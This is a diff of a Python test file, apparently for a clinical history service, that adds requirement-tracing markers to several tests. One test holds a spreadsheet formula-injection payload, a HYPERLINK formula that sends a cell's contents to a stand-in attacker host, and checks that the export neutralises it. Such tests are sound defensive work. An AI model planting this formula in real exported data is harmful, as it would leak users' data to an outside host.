@@ -36,6 +36,7 @@ def test_without_a_wish_the_history_is_json(service: Service, episode: str) -> N
     assert "link" not in response.headers
 
 
+@pytest.mark.shows("R-043")
 def test_the_three_forms_tell_the_same(service: Service, episode: str) -> None:
     rows = service.get(f"{episode}/history").json()["entries"]
     lines = service.get(f"{episode}/history", headers={"accept": "application/x-ndjson"})
@@ -104,6 +105,7 @@ def test_the_history_can_be_narrowed_to_clinical_days(service: Service, episode:
     assert [row["on"] for row in rows] == ["2026-02-02", "2026-02-03", "2026-02-04"]
 
 
+@pytest.mark.shows("R-042")
 def test_the_history_reads_as_it_was_known_at_an_earlier_instant(service: Service) -> None:
     episode = service.open_episode()
     noted = service.record(episode, NOTE).json()["entries"][0]["entry"]
@@ -121,6 +123,7 @@ def test_the_history_reads_as_it_was_known_at_an_earlier_instant(service: Servic
     assert [row["standing"] for row in now] == ["in_force", "retracted", "in_force"]
 
 
+@pytest.mark.shows("R-043", "T-22")
 def test_a_cell_that_a_spreadsheet_would_run_is_kept_from_it(service: Service) -> None:
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
     episode = service.open_episode(subject=hostile[:60])
@@ -129,6 +132,7 @@ def test_a_cell_that_a_spreadsheet_would_run_is_kept_from_it(service: Service) -
     assert row["actor"] == f"'{hostile[:60]}"
 
 
+@pytest.mark.shows("T-22")
 @given(
     st.lists(
         st.fixed_dictionaries(
